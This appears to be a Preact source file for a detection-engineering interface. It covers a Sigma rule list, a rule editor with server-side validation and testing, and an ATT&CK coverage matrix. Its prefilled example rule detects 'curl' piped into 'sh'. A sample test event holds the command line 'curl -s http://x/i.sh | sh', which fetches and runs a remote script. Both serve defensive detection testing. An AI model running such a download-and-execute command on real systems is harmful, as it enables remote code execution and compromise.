// rules.tsx - detection engineering: the rule list with ATT&CK tags and enable/disable, a Sigma
// editor that validates on the server and tests the rule against pasted events before saving,
// and the ATT&CK coverage matrix (techniques by tactic, shaded by how many enabled rules cover
// them, from GET /attack/navigator and /attack/techniques). The list holds the rules stored
// through the API and, marked "built-in", the read-only rules of detect.rules_dir (no enable
// switch: their files are changed on the server). Each rule's row expands to its exceptions,
// which work for both kinds; the Suppressions card lists the suppression windows (both in
// policy.tsx).
import { Fragment } from 'preact';
import { useMemo, useState } from 'preact/hooks';
import { api, can, type Me } from '../api';
import { Card, ErrorBox, useAction, useApi } from '../components';
import { cellText, download } from '../util';
import { RuleExceptions, Suppressions } from './policy';

type Row = Record<string, unknown>;

/** A small Sigma rule prefilled in the editor (and in the retro-hunt form). */
export const EXAMPLE = `title: Download and execute from /tmp
id: 00000000-0000-4000-8000-000000000001
status: experimental
level: high
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  sel:
    CommandLine|contains|all: ['curl', '| sh']
  condition: sel
`;

const EXAMPLE_EVENTS = `[
  {"agent": {"id": "a1"}, "event": {"category": "process", "type": "start"},
   "host": {"name": "web-01"}, "process": {"command_line": "curl -s http://x/i.sh | sh"}},
  {"agent": {"id": "a1"}, "event": {"category": "process", "type": "start"},
   "host": {"name": "web-01"}, "process": {"command_line": "ls -la"}}
]`;

const SOURCES: [string, string][] = [['', 'all rules'], ['api', 'stored through the API'], ['builtin', 'built-in']];

export function RulesScreen({ me }: { me: Me }) {
  const [source, setSource] = useState('');
  const r = useApi<{ rules: Row[]; total: number; engine: Row }>('/rules', { limit: 1000, source });
  const act = useAction();
  const write = can(me, 'rules:write');
  const [filter, setFilter] = useState('');
  const [open, setOpen] = useState<string | null>(null);
  const rows = (r.data?.rules ?? []).filter((x) => !filter || JSON.stringify(x).toLowerCase().includes(filter.toLowerCase()));
  return (
    <div>
      <h1>Rules</h1>
      {r.data && (
        <p class="muted" data-testid="engine">
          Engine generation {cellText(r.data.engine.generation)} · {cellText(r.data.engine.rules)} rules loaded
          {r.data.engine.pending ? ' · rebuilding…' : ''} · {cellText(r.data.engine.load_failures)} load failures
        </p>
      )}
      <div class="toolbar">
        <label>Filter <input type="search" value={filter} onInput={(e) => setFilter(e.currentTarget.value)} placeholder="title, tag, level" /></label>
        <label>Source <select value={source} onChange={(e) => setSource(e.currentTarget.value)}>
          {SOURCES.map(([v, l]) => <option key={v} value={v}>{l}</option>)}
        </select></label>
        <button type="button" onClick={r.reload}>Refresh</button>
      </div>
      <ErrorBox error={r.error ?? act.error} />
      {r.data && !rows.length && <p class="empty">No rules{filter ? ' match the filter' : ''}</p>}
      {r.data && r.data.total > (r.data.rules ?? []).length && <p class="muted">Showing the first {(r.data.rules ?? []).length} of {r.data.total} rules</p>}
      {rows.length > 0 && (
        <div class="table-wrap">
          <table aria-label="Rules">
            <thead><tr>{['Title', 'Level', 'ATT&CK', 'Enabled', 'Loaded', 'Tenant', 'Updated / file', 'Exceptions'].map((h) => <th key={h} scope="col">{h}</th>)}</tr></thead>
            <tbody>
              {rows.map((x) => {
                const builtin = x.source === 'builtin';
                const key = builtin ? `builtin/${x.id}` : `${x.tenant}/${x.id}`;
                return (
                  <Fragment key={key}>
                    <tr data-testid={builtin ? `builtin-${x.id}` : undefined}>
                      <td>{cellText(x.title)}{builtin && <> <span class="pill builtin" title={`detect.rules_dir: ${cellText(x.file)} (read-only)`}>built-in</span></>}</td>
                      <td>{cellText(x.level)}</td>
                      <td>{((x.tags as string[] | undefined) ?? []).filter((t) => /^attack\.t\d/i.test(t)).map((t) => t.slice(7).toUpperCase()).join(', ')}</td>
                      <td>
                        <input type="checkbox" aria-label={`Enabled: ${cellText(x.title)}`} checked={!!x.enabled} disabled={!write || builtin || act.busy}
                          title={builtin ? 'a built-in rule is changed in its file on the server' : undefined}
                          onChange={async (e) => {
                            const enabled = e.currentTarget.checked;
                            if (await act.run(() => api.patch(`/rules/${encodeURIComponent(String(x.id))}?tenant=${encodeURIComponent(String(x.tenant))}`, { enabled }))) r.reload();
                          }} />
                      </td>
                      <td>{x.loaded ? 'yes' : 'no'}</td>
                      <td>{builtin ? <span class="muted">every tenant</span> : cellText(x.tenant)}</td>
                      <td>{builtin ? <code>{cellText(x.file)}</code> : cellText(x.updated)}</td>
                      <td>
                        <button type="button" class="link" aria-expanded={open === key} aria-label={`Exceptions of ${cellText(x.title)}`}
                          onClick={() => setOpen(open === key ? null : key)}>{open === key ? '▾' : '▸'} exceptions</button>
                      </td>
                    </tr>
                    {open === key && (
                      <tr class="rule-detail">
                        <td colSpan={8}>
                          <RuleExceptions me={me} ruleId={String(x.id)} ruleTenant={builtin ? me.tenant : String(x.tenant)} title={cellText(x.title)} />
                        </td>
                      </tr>
                    )}
                  </Fragment>
                );
              })}
            </tbody>
          </table>
        </div>
      )}
      {r.data && <Suppressions me={me} rules={(r.data.rules ?? []).map((x) => ({ id: String(x.id), title: cellText(x.title) }))} />}
      {write && <RuleEditor onSaved={r.reload} />}
    </div>
  );
}

function RuleEditor({ onSaved }: { onSaved: () => void }) {
  const [yaml, setYaml] = useState(EXAMPLE);
  const [events, setEvents] = useState(EXAMPLE_EVENTS);
  const [check, setCheck] = useState<Row | null>(null);
  const [test, setTest] = useState<Row | null>(null);
  const [saved, setSaved] = useState('');
  const act = useAction();
  async function validate() {
    setCheck(null);
    await act.run(async () => setCheck(await api.post<Row>('/rules/validate', { yaml })));
  }
  async function runTest() {
    setTest(null);
    let evs: unknown;
    try {
      evs = JSON.parse(events);
    } catch {
      await act.run(() => Promise.reject(new Error('the events are not a JSON array')));
      return;
    }
    await act.run(async () => setTest(await api.post<Row>('/rules/test', { yaml, events: evs })));
  }
  async function save() {
    setSaved('');
    if (await act.run(() => api.postText('/rules', yaml, 'application/yaml'))) {
      setSaved('Saved; the engine picks it up in the background.');
      onSaved();
    }
  }
  const results = (test?.results as Row[] | undefined) ?? [];
  return (
    <Card title="Sigma editor">
      <div class="grid2">
        <label>Rule (Sigma YAML)
          <textarea rows={16} spellcheck={false} value={yaml} onInput={(e) => setYaml(e.currentTarget.value)} aria-label="Rule YAML" />
        </label>
        <label>Test events (JSON array in the event model)
          <textarea rows={16} spellcheck={false} value={events} onInput={(e) => setEvents(e.currentTarget.value)} aria-label="Test events" />
        </label>
      </div>
      <div class="toolbar">
        <button type="button" disabled={act.busy} onClick={validate}>Validate</button>
        <button type="button" disabled={act.busy} onClick={runTest}>Test</button>
        <button type="button" class="primary" disabled={act.busy} onClick={save}>Save rule</button>
      </div>
      <ErrorBox error={act.error} />
      {check && (check.ok
        ? <p role="status" class="ok" data-testid="validation">Valid {cellText(check.kind)} rule “{cellText(check.title)}”, {cellText(check.atoms)} value tests</p>
        : <p role="alert" class="bad" data-testid="validation">{cellText(check.error)}</p>)}
      {test && (
        <ul class="events" aria-label="Test results">
          {results.map((x) => (
            <li key={String(x.index)} data-testid={`test-result-${x.index}`}>
              event {cellText(x.index)}: {x.error ? <span class="bad">{cellText(x.error)}</span>
                : (x.matched as Row[]).length ? <span class="ok">matched {(x.matched as Row[]).map((m) => cellText(m.title)).join(', ')}</span>
                  : <span class="muted">no match</span>}
            </li>
          ))}
        </ul>
      )}
      {saved && <p role="status">{saved}</p>}
    </Card>
  );
}

interface Technique { id: string; name: string; subtechnique: boolean; parent: string | null; tactics: string[] }

const TACTICS = ['reconnaissance', 'resource-development', 'initial-access', 'execution', 'persistence', 'privilege-escalation',
  'defense-evasion', 'credential-access', 'discovery', 'lateral-movement', 'collection', 'command-and-control', 'exfiltration', 'impact'];

export function AttackScreen(_p: { me: Me }) {
  const layer = useApi<{ techniques: { techniqueID: string; score: number; comment: string }[] }>('/attack/navigator');
  const techs = useApi<{ count: number; techniques: Technique[] }>('/attack/techniques', { limit: 2000 });
  const [onlyCovered, setOnlyCovered] = useState(false);
  const score = useMemo(() => {
    const m = new Map<string, { score: number; comment: string }>();
    for (const t of layer.data?.techniques ?? []) m.set(t.techniqueID, { score: t.score, comment: t.comment });
    return m;
  }, [layer.data]);
  const byTactic = useMemo(() => {
    const m = new Map<string, Technique[]>();
    for (const t of techs.data?.techniques ?? []) {
      if (t.subtechnique) continue;
      for (const tac of t.tactics) {
        if (!m.has(tac)) m.set(tac, []);
        m.get(tac)!.push(t);
      }
    }
    for (const l of m.values()) l.sort((a, b) => a.name.localeCompare(b.name));
    return m;
  }, [techs.data]);
  /** A technique's coverage: its own rules plus those of its sub-techniques. */
  const cover = (t: Technique) => {
    let s = score.get(t.id)?.score ?? 0;
    for (const [id, v] of score) if (id.startsWith(t.id + '.')) s += v.score;
    return s;
  };
  const covered = Array.from(byTactic.values()).flat().filter((t) => cover(t) > 0);
  const max = Math.max(1, ...covered.map(cover));
  return (
    <div>
      <h1>ATT&CK coverage</h1>
      <ErrorBox error={layer.error ?? techs.error} />
      {techs.data && techs.data.count === 0 && <p class="empty">No ATT&CK catalogue loaded (attack.bundle, or POST /api/v1/attack/import).</p>}
      <div class="toolbar">
        <span data-testid="coverage">{new Set(covered.map((t) => t.id)).size} techniques covered by enabled rules</span>
        <label class="row"><input type="checkbox" checked={onlyCovered} onChange={(e) => setOnlyCovered(e.currentTarget.checked)} /> only covered</label>
        {layer.data && <button type="button" onClick={() => download('vigil-attack-layer.json', JSON.stringify(layer.data, null, 2), 'application/json')}>Download Navigator layer</button>}
      </div>
      <div class="matrix" role="table" aria-label="ATT&CK matrix">
        {TACTICS.filter((t) => byTactic.has(t)).map((tac) => (
          <div key={tac} class="tactic" role="rowgroup">
            <h2 role="columnheader">{tac.replace(/-/g, ' ')}</h2>
            {byTactic.get(tac)!.filter((t) => !onlyCovered || cover(t) > 0).map((t) => {
              const s = cover(t);
              const shade = s ? 0.25 + 0.75 * (s / max) : 0;
              return (
                <div key={t.id} role="cell" class={'tech' + (s ? ' covered' : '')}
                  style={s ? { background: `color-mix(in srgb, var(--accent) ${Math.round(shade * 60)}%, transparent)` } : undefined}
                  title={`${t.id} ${t.name}${s ? ` — ${s} rule(s): ${score.get(t.id)?.comment ?? ''}` : ''}`}>
                  <code>{t.id}</code> {t.name}{s ? <strong> ({s})</strong> : null}
                </div>
              );
            })}
          </div>
        ))}
      </div>
    </div>
  );
}
